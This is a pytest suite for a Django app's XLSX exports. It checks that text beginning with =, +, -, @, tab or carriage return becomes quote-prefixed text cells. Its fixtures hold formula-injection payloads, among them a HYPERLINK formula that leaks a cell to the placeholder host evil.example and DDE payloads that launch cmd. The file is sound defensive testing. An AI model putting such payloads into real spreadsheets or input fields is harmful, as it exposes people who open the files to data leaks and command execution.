"""Spreadsheet formula injection is neutralised on every XLSX export.

Text that a spreadsheet would run (=, +, -, @, or a leading tab or carriage return) is written
as a text cell with Excel's quote prefix. Every list endpoint of the API exports XLSX through
core/xlsx.py, so the test sweeps all of them after storing formula text in free-text fields.
"""

import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from luzhi.core.xlsx import workbook_bytes
from luzhi.proposals.models import Proposal
from luzhi.scoring import rules
from luzhi.scoring.models import ScoreRuleSet
from luzhi.urls import router
from tests import factories as f
from tests.activities.factories import ActivityFactory
from tests.ledger.factories import PlanItemFactory
from tests.proposals.factories import ProposalFactory
from tests.research.factories import ResearchTopicFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows() for c in row]


def _assert_neutral(cells, where: str) -> int:
    checked = 0
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
            assert cell.data_type == "s", f"{where} {cell.coordinate}: {cell.value!r} is a {cell.data_type} cell"
            assert cell.quotePrefix, f"{where} {cell.coordinate}: {cell.value!r} has no quote prefix"
            checked += 1
    return checked


@pytest.mark.parametrize("value", FORMULAS)
def test_the_writer_quotes_every_dangerous_start(value):
    cells = _cells(workbook_bytes(["标题"], [[value], ["普通文字"], [-5], [1.5]]))
    assert cells[1].value == value and cells[1].data_type == "s" and cells[1].quotePrefix
    assert cells[2].value == "普通文字" and not cells[2].quotePrefix
    assert cells[3].value == -5 and cells[3].data_type == "n"  # real numbers stay numbers


def test_lists_and_mappings_are_joined_then_checked():
    cells = _cells(workbook_bytes(["a", "b"], [[["=1+1", "x"], {"=k": "v"}]]))
    assert cells[2].quotePrefix and cells[2].data_type == "s"
    assert cells[3].quotePrefix and cells[3].data_type == "s"


def test_no_module_writes_a_workbook_around_core_xlsx():
    """Only core/xlsx.py builds workbooks; the roster template, built by hand, passes through finish_sheet."""
    offenders = []
    for path in Path(settings.BASE_DIR, "luzhi").rglob("*.py"):
        if path.name == "xlsx.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        quoted = "quote_formulas(" in text or "finish_sheet(" in text  # finish_sheet quotes as well
        if re.search(r"\bWorkbook\(|WriteOnlyCell|xlsxwriter|\.to_excel\(", text) and not quoted:
            offenders.append(str(path))
    assert offenders == []


@pytest.mark.parametrize("path", ["/api/v1/members/import-template/", "/org/members/import/template/"])
def test_the_roster_template_quotes_sector_and_group_names(client, users, committee, path):
    f.SectorFactory(committee=committee, name='=HYPERLINK("http://evil.example","界别")')
    f.MemberGroupFactory(committee=committee, name="+1")
    client.force_login(users["office"])
    response = client.get(path)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)
    assert _assert_neutral(cells, path) >= 1


@pytest.fixture
def formula_text(committee, users):
    member = f.MemberFactory(committee=committee, name="=1+1", workplace=FORMULAS[0])
    ProposalFactory(
        committee=committee, lead=member, title=FORMULAS[1], reason=FORMULAS[2], status=Proposal.Status.SUBMITTED
    )
    ActivityFactory(committee=committee, title=FORMULAS[3], location=FORMULAS[4])
    ResearchTopicFactory(committee=committee, title=FORMULAS[5])
    PlanItemFactory(committee=committee, title=FORMULAS[0])
    f.UnitFactory(committee=committee, name="@SUM(1)")
    f.SectorFactory(committee=committee, name="-2+3")
    f.PartyOrganizationFactory(committee=committee, name="+cmd")
    ScoreRuleSet.objects.create(
        committee=committee,
        year=timezone.localdate().year,
        items=rules.DEFAULT_ITEMS,
        grades=rules.DEFAULT_GRADES,
        shared_caps=rules.DEFAULT_SHARED_CAPS,
        warnings=rules.DEFAULT_WARNINGS,
    )
    return member


def list_paths() -> list[str]:
    return sorted(f"/api/v1/{prefix}/" for prefix, _, _ in router.registry)


def test_every_list_endpoint_is_swept():
    assert len(list_paths()) >= 35


@pytest.mark.parametrize("path", list_paths())
def test_every_xlsx_export_neutralises_formulas(api, users, formula_text, path):
    exported = False
    for role in ("office", "sysadmin", "auditor", "secadmin", "member"):
        response = api(users[role]).get(f"{path}?format=xlsx")
        if response.status_code in (403, 404, 405):
            continue
        assert response.status_code == 200, (role, path, response.content[:200])
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        _assert_neutral(_cells(response.content), f"{role} {path}")
        exported = True
    assert exported, f"{path}: no role could export it"


@pytest.mark.parametrize(
    "path,value",
    [
        ("/api/v1/members/", FORMULAS[0]),
        ("/api/v1/members/", "=1+1"),
        ("/api/v1/proposals/", FORMULAS[1]),
        ("/api/v1/activities/", FORMULAS[3]),
        ("/api/v1/activities/", FORMULAS[4]),
        ("/api/v1/research-topics/", FORMULAS[5]),
        ("/api/v1/plan-items/", FORMULAS[0]),
        ("/api/v1/units/", "@SUM(1)"),
        ("/api/v1/sectors/", "-2+3"),
    ],
)
def test_the_stored_formulas_reach_the_export_as_quoted_text(api, users, formula_text, path, value):
    cells = _cells(api(users["office"]).get(f"{path}?format=xlsx").content)
    matching = [c for c in cells if c.value == value]
    assert matching, f"{value!r} not exported by {path}"
    assert _assert_neutral(matching, path) == len(matching)


def test_the_audit_export_quotes_formulas_written_into_changes(api, users, formula_text):
    cells = _cells(api(users["auditor"]).get("/api/v1/audit/?format=xlsx").content)
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)
    assert _assert_neutral(cells, "audit") > 0


def test_the_duty_bulletin_xlsx_quotes_member_names(api, users, committee, formula_text):
    year = timezone.localdate().year
    response = api(users["office"]).get(f"/api/v1/scores/bulletin/?format=xlsx&year={year}")
    assert response.status_code == 200, response.content[:300]
    cells = _cells(response.content)
    assert any(c.value == "=1+1" for c in cells)
    assert _assert_neutral(cells, "bulletin") > 0
